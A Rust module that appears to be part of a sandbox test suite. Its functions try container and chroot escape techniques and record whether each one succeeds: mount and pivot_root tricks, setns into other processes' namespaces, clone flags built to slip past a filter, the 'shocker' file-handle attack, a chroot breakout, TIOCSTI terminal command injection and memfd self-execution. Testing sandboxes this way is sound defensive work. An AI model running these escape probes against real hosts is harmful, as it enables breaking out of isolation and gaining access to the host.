//! Ways to files, mounts, namespaces and terminals of the host.

use crate::path;
use integration::answer::{last_errno, say};
use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::process::Command;
use std::ptr::{null, null_mut};

/// Opens each path to read or to write it, and reads or writes a byte.
pub fn open(how: &str, paths: &[&str]) {
    for name in paths {
        let flags = if how == "w" { libc::O_WRONLY } else { libc::O_RDONLY };
        let mut byte = [b'0'];
        // SAFETY: a C string and one byte that outlive the calls.
        unsafe {
            let fd = libc::open(path(name).as_ptr(), flags | libc::O_NONBLOCK | libc::O_NOCTTY);
            let done = match how {
                _ if fd < 0 => -1,
                "w" => libc::write(fd, byte.as_ptr().cast(), 1),
                _ => libc::read(fd, byte.as_mut_ptr().cast(), 1),
            };
            say(name, done as libc::c_long);
        }
    }
}

/// Every kind of file system that shows or changes something of the kernel's; by the old call and by the new ones.
pub fn mounts(place: &str) {
    let place = path(place);
    let kinds =
        ["proc", "sysfs", "tmpfs", "cgroup2", "cgroup", "overlay", "bpf", "devpts", "mqueue", "devtmpfs", "ramfs"];
    for kind in kinds {
        let name = path(kind);
        let options = if kind == "overlay" { path("lowerdir=/usr:/etc") } else { path("") };
        // SAFETY: C strings that outlive the calls.
        unsafe {
            let done = libc::mount(name.as_ptr(), place.as_ptr(), name.as_ptr(), 0, options.as_ptr().cast());
            say(&format!("mount-{kind}"), done.into());
            say(&format!("fsopen-{kind}"), libc::syscall(libc::SYS_fsopen, name.as_ptr(), 0));
        }
    }
    // SAFETY: C strings that outlive the calls, and a structure of the kernel's size.
    unsafe {
        let root = path("/");
        let bind = libc::mount(root.as_ptr(), place.as_ptr(), null(), libc::MS_BIND | libc::MS_REC, null());
        say("bind", bind.into());
        say("private", libc::mount(null(), root.as_ptr(), null(), libc::MS_PRIVATE, null()).into());
        say("open_tree", libc::syscall(libc::SYS_open_tree, libc::AT_FDCWD, root.as_ptr(), 1));
        say("move_mount", libc::syscall(libc::SYS_move_mount, -100, root.as_ptr(), -100, place.as_ptr(), 0));
        // attr_set 0, attr_clr MOUNT_ATTR_RDONLY: what makes a read-only mount writable again.
        let attributes = [0_u64, 1, 0, 0];
        let at = libc::AT_FDCWD;
        say("writable", libc::syscall(libc::SYS_mount_setattr, at, root.as_ptr(), 0, attributes.as_ptr(), 32));
        say("pivot_root", libc::syscall(libc::SYS_pivot_root, place.as_ptr(), place.as_ptr()));
        say("umount", libc::umount2(path("/proc").as_ptr(), libc::MNT_DETACH).into());
    }
}

/// Enters every namespace that /proc shows, and those of PID 1 by its pidfd.
pub fn setns() {
    for process in fs::read_dir("/proc").expect("/proc").flatten() {
        let number = process.file_name().into_string().expect("text");
        if number.parse::<u32>().is_err() && number != "self" {
            continue;
        }
        for kind in ["mnt", "pid", "net", "ipc", "uts", "user", "cgroup"] {
            let Ok(namespace) = fs::File::open(format!("/proc/{number}/ns/{kind}")) else { continue };
            // SAFETY: takes numbers.
            say(&format!("{number}-{kind}"), unsafe { libc::setns(namespace.as_raw_fd(), 0) }.into());
        }
    }
    // SAFETY: takes numbers.
    unsafe {
        let first = libc::syscall(libc::SYS_pidfd_open, 1, 0);
        say("pidfd-1", libc::syscall(libc::SYS_setns, first, libc::CLONE_NEWNS | libc::CLONE_NEWPID));
    }
}

/// clone(2) looks at 32 bits of its flags: what stands above them must not hide what stands below from a filter.
pub fn clone() {
    let above = 0xffff_ffff_0000_0000_u64;
    let signal = libc::SIGCHLD as u64;
    for (name, kind) in [("user", libc::CLONE_NEWUSER), ("mount", libc::CLONE_NEWNS), ("net", libc::CLONE_NEWNET)] {
        for (how, flags) in [("plain", kind as u64), ("above", above | kind as u64)] {
            // SAFETY: as fork, since no stack is given; the child ends at once.
            unsafe {
                let child = libc::syscall(libc::SYS_clone, flags | signal, 0, 0, 0, 0);
                if child == 0 {
                    libc::_exit(0);
                }
                say(&format!("{name}-{how}"), child.min(1));
                libc::waitpid(-1, null_mut(), 0);
            }
        }
    }
}

/// Opens the root of the file system that `place` is on by a made-up handle: the attack that is called shocker.
pub fn handles(place: &str) {
    // struct file_handle of ext4: 8 bytes of handle, of type 1 (inode and generation); the root is inode 2.
    let handle = [8_u32, 1, 2, 0];
    // SAFETY: a C string and a handle that outlive the calls.
    unsafe {
        let mount = libc::open(path(place).as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        if mount < 0 {
            return say("open", -1);
        }
        let flags = libc::O_RDONLY | libc::O_DIRECTORY;
        say("root-by-handle", libc::syscall(libc::SYS_open_by_handle_at, mount, handle.as_ptr(), flags).min(1));
    }
}

/// The classic way out of a chroot: another root below, while a descriptor still leads above.
pub fn breakout() {
    let (below, above) = (path("/tmp"), path(".."));
    // SAFETY: C strings that outlive the calls.
    unsafe {
        let outer = libc::open(path("/").as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
        say("chroot", libc::chroot(below.as_ptr()).into());
        say("fchdir", libc::fchdir(outer).into());
        for _ in 0..64 {
            libc::chdir(above.as_ptr());
        }
        say("chroot-up", libc::chroot(path(".").as_ptr()).into());
    }
    // Wherever it is now: whether the host's own directories are there.
    for place in ["/home", "/root", "/run", "/var", "/srv/work"] {
        // SAFETY: a C string that outlives the call.
        say(place, unsafe { libc::access(path(place).as_ptr(), libc::F_OK) }.into());
    }
}

/// Types a command into every terminal that can be reached.
pub fn inject() {
    // SAFETY: a C string and bytes that outlive the calls; the request reads one byte.
    unsafe {
        let own = libc::open(path("/dev/tty").as_ptr(), libc::O_RDWR);
        for (name, fd) in [("stdin", 0), ("stdout", 1), ("stderr", 2), ("tty", own)] {
            say(name, libc::ioctl(fd, libc::TIOCSTI, c"x".as_ptr()).into());
            // A filter that compares 64 bits lets a request pass that the kernel reads as the same.
            let wide = libc::TIOCSTI | 0x1_0000_0000;
            say(&format!("{name}-wide"), libc::syscall(libc::SYS_ioctl, fd, wide, c"x".as_ptr()));
            // TIOCLINUX, 3: paste the console's selection.
            say(&format!("{name}-linux"), libc::ioctl(fd, libc::TIOCLINUX, c"\x03".as_ptr()).into());
        }
    }
}

/// Executes itself from a file that has no name and lies on no mount, with these words.
pub fn anonymous(rest: &[&str]) {
    let own = fs::read("/proc/self/exe").expect("its own program");
    // SAFETY: a C string that outlives the call.
    let fd = unsafe { libc::memfd_create(path("attack").as_ptr(), 0) };
    if fd < 0 {
        println!("memfd_create {}", last_errno());
        return;
    }
    let program = format!("/proc/self/fd/{fd}");
    fs::write(&program, own).expect("written");
    println!("exec {}", Command::new(&program).args(rest).exec());
}
